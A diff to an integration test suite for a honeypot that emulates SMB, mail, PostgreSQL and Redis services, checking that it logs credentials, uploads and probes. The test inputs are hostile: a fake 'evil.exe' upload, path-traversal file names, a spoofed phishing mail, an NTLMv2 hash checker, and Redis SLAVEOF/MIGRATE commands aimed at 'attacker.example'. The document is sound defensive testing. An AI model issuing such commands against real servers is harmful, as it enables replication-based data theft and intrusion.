@@ -1,11 +1,15 @@
 """The services in their container, visited with real clients."""
 
 import base64
+import hashlib
+import hmac
+import json
 import os
 import re
 import socket
 import subprocess
 from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
 
 import pytest
 from honeypot_testing.visited import Visited, details
@@ -78,6 +82,101 @@ def test_redis(services: Visited) -> None:
     assert max(events, key=lambda event: event.severity == "high").severity == "high"
 
 
+def smbclient(services: Visited, share: str, *arguments: str) -> str:
+    return run("smbclient", "-p", "2445", f"//{services.container.address}/{share}", *arguments)
+
+
+def test_smb_takes_files_and_proofs(services: Visited, tmp_path: Path) -> None:
+    sent, got = tmp_path / "evil.exe", tmp_path / "README.txt"
+    sent.write_bytes(b"MZ\x00\xff" * 40_000)
+    commands = f"put {sent} evil.exe; ls; get README.txt {got}"
+    answer = smbclient(services, "public", "-U", "CORP\\alice%Summer2026", "-c", commands)
+    assert re.search(r"evil\.exe +\S+ +160000 ", answer), answer
+    assert "148529400" not in answer, "the disk is the one of every impacket"
+    assert got.read_text() == "intranet.local: internal use only.\n"
+    events = services.session(2445)
+    assert [details(events, kind) for kind in ("username", "domain", "login")] == [["alice"], ["CORP"], ["accepted"]]
+    (line,) = details(events, "hash")
+    assert ntlm_v2(line, "Summer2026"), line
+    assert f"share \\\\{services.container.address}\\public" in details(events, "request")
+    (file,) = map(json.loads, details(events, "file"))
+    assert (file["name"], file["bytes"]) == ("public/evil.exe", 160_000)
+    assert file["sha256"] == hashlib.sha256(sent.read_bytes()).hexdigest()
+    (packet,) = (packet for event in events for packet in event.packets)
+    assert base64.b64decode(packet.payload) == sent.read_bytes()[:4096]
+
+
+def ntlm_v2(line: str, password: str) -> bool:
+    """Tell whether a line of hashcat's form 5600 proves a password; MD4 is asked of openssl, as Python may lack it."""
+    user, _, domain, challenge, proof, blob = line.split(":")
+    legacy = ["openssl", "dgst", "-provider", "legacy", "-provider", "default", "-md4", "-binary"]
+    md4 = subprocess.run(legacy, input=password.encode("utf-16le"), capture_output=True, check=True).stdout
+    key = hmac.digest(md4, (user.upper() + domain).encode("utf-16le"), "md5")
+    return hmac.digest(key, bytes.fromhex(challenge + blob), "md5").hex() == proof
+
+
+def test_smb_lists_its_shares_and_leads_nowhere_else(services: Visited) -> None:
+    answer = run("smbclient", "-p", "2445", "-N", "-L", services.container.address)
+    assert re.search(r"public +Disk", answer), answer
+    assert re.search(r"IPC\$ +IPC", answer), answer
+    for name in ("journal.json", "../journal.json", "../../../var/lib/honeypot/outbox.db"):
+        assert "NT_STATUS" in smbclient(services, "IPC$", "-N", "-c", f"get {name} /dev/null")
+
+
+def test_smb_of_version_1_is_told(services: Visited) -> None:
+    answer = smbclient(services, "public", "-m", "NT1", "--option=client min protocol=NT1", "-N", "-c", "ls")
+    assert "negotiation failed" in answer.lower() or "NT_STATUS" in answer
+    assert "SMB version 1" in details(services.session(2445), "request")
+
+
+@pytest.mark.parametrize(
+    ("method", "port"), [("PLAIN", 2525), ("LOGIN", 2525), ("PLAIN", 2143), ("LOGIN", 2143), ("PLAIN", 2110)]
+)
+def test_mail_logins(services: Visited, method: str, port: int) -> None:
+    scheme = {2525: "smtp", 2143: "imap", 2110: "pop3"}[port]
+    url = f"{scheme}://{services.container.address}:{port}/"
+    user = ["--user", 'bob:p"w\\ 1', "--login-options", f"AUTH={method}"]
+    run("curl", "-s", "--max-time", "60", *user, url)
+    events = services.session(port)
+    found = [details(events, kind) for kind in ("username", "password", "login")]
+    assert found == [["bob"], ['p"w\\ 1'], ["refused"]]
+
+
+def test_imap_login_command_with_literals(services: Visited) -> None:
+    with socket.create_connection((services.container.address, 2143), 20) as client, client.makefile("rwb") as both:
+        assert b"Dovecot (Debian) ready." in both.readline()
+        for line in (b"a LOGIN {3}", b'bob {5+}\r\np"\\w1'):
+            both.write(line + b"\r\n")
+            both.flush()
+            answer = both.readline()
+        assert answer == b"a NO [AUTHENTICATIONFAILED] Authentication failed.\r\n"
+    events = services.session(2143)
+    assert (details(events, "username"), details(events, "password")) == (["bob"], ['p"\\w1'])
+
+
+def test_mail_is_taken_and_told(services: Visited) -> None:
+    place = ["--server", services.container.address, "--port", "2525", "--helo", "attacker.example"]
+    addresses = ["--from", "ceo@corp.example", "--to", "victim@corp.example"]
+    answer = run("swaks", *place, *addresses, "--body", "Open this.\n.\nNow", "--header", "Subject: invoice")
+    assert "220 files01.intranet.local ESMTP Postfix (Debian/GNU)" in answer
+    assert "250 2.0.0 Ok: queued as" in answer
+    events = services.session(2525)
+    assert details(events, "client") == ["attacker.example"]
+    assert (details(events, "sender"), details(events, "recipients")) == (["ceo@corp.example"], ["victim@corp.example"])
+    (packet,) = (packet for event in events for packet in event.packets)
+    assert b"Subject: invoice\r\n" in base64.b64decode(packet.payload)
+    assert b"Open this.\r\n.\r\nNow" in base64.b64decode(packet.payload)
+
+
+def test_postgresql(services: Visited) -> None:
+    place = f"host={services.container.address} user=postgres dbname=shop"
+    answer = run("psql", place, "-c", "select 1", PGPASSWORD="Winter 2026")
+    assert 'FATAL:  password authentication failed for user "postgres"' in answer
+    events = services.session(5432)
+    found = [details(events, kind) for kind in ("username", "password", "database", "program")]
+    assert found == [["postgres"], ["Winter 2026"], ["shop"], ["psql"]]
+
+
 def vnc_login(address: str, proof: bytes) -> bytes:
     """The client's side of RFB 3.8 with a password; Debian's viewers need a screen."""
     with socket.create_connection((address, 5900), 20) as client, client.makefile("rb") as answers:
@@ -140,11 +239,16 @@ def test_flood_is_counted_to_the_last_visit(services: Visited) -> None:
 
 
 NMAP = {
-    2121: ("vsftpd 3.0.3", "Microsoft ftpd"),
-    3306: ("MySQL 5.5.5-10.11.11-MariaDB-0+deb12u1", "MySQL 8.0.39"),
-    6379: ("Redis key-value store 7.0.15", "Redis key-value store 5.0.14"),
     1433: ("Microsoft SQL Server 2019 15.00.4430", "Microsoft SQL Server 2019 15.00.2000"),
+    2110: ("Dovecot pop3d", "Microsoft Exchange"),
+    2121: ("vsftpd 3.0.3", "Microsoft ftpd"),
+    2143: ("Dovecot imapd", "Microsoft Exchange"),
+    2445: ("Samba smbd 4", "open"),  # Windows without version 1 tells scanners nothing
+    2525: ("Postfix smtpd", "Microsoft Exchange smtpd"),
+    3306: ("MySQL 5.5.5-10.11.11-MariaDB-0+deb12u1", "MySQL 8.0.39"),
+    5432: ("PostgreSQL DB", "PostgreSQL DB"),
     5900: ("VNC (protocol 3.8)", "VNC (protocol 3.8)"),
+    6379: ("Redis key-value store 7.0.15", "Redis key-value store 5.0.14"),
 }
 
 
@@ -174,6 +278,26 @@ def test_redis_may_ask_for_a_password(services: Visited) -> None:
     assert "WRONGPASS" in answer
     assert "NOAUTH" in answer
     assert details(services.session(6379), "password") == ["hunter2"]
+
+
+@pytest.mark.netns
+def test_no_service_opens_a_connection_or_asks_for_a_name(services: Visited) -> None:
+    enter = ["nsenter", f"--net={services.container.network_namespace}", "nft"]
+    watch = """table inet watch { chain out { type filter hook output priority filter;
+      meta l4proto { tcp, udp } ct state new ip daddr != 127.0.0.1 counter
+      oifname != "lo" meta nfproto ipv6 meta l4proto { tcp, udp } ct state new counter } }"""
+    subprocess.run([*enter, "-f", "-"], input=watch, text=True, check=True)
+    address = services.container.address
+    run("redis-cli", "-h", address, said="SLAVEOF attacker.example 6379\nMIGRATE attacker.example 6379 k 0 9\n")
+    run("swaks", "--server", address, "--port", "2525", "--from", "a@b.example", "--to", "c@d.example")
+    run("curl", "-s", "--ftp-port", "-", "--user", "a:b", f"ftp://{address}:2121/")
+    run("smbclient", "-p", "2445", "-L", address, "-U", "a%b")
+    run("mysql", "--skip-ssl", "-h", address, "-u", "a", "-pb")
+    run("psql", f"host={address} user=a dbname=b", PGPASSWORD="c")
+    assert run(*enter, "list", "table", "inet", "watch").count("packets 0 bytes 0") == 2
+    say = "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('%s', 9))"
+    services.container.execute("python", "-c", say % services.container.gateway)
+    assert run(*enter, "list", "table", "inet", "watch").count("packets 0 bytes 0") == 1, "the watch sees nothing"
 
 
 def test_stop_hands_over_the_rest(services: Visited) -> None:
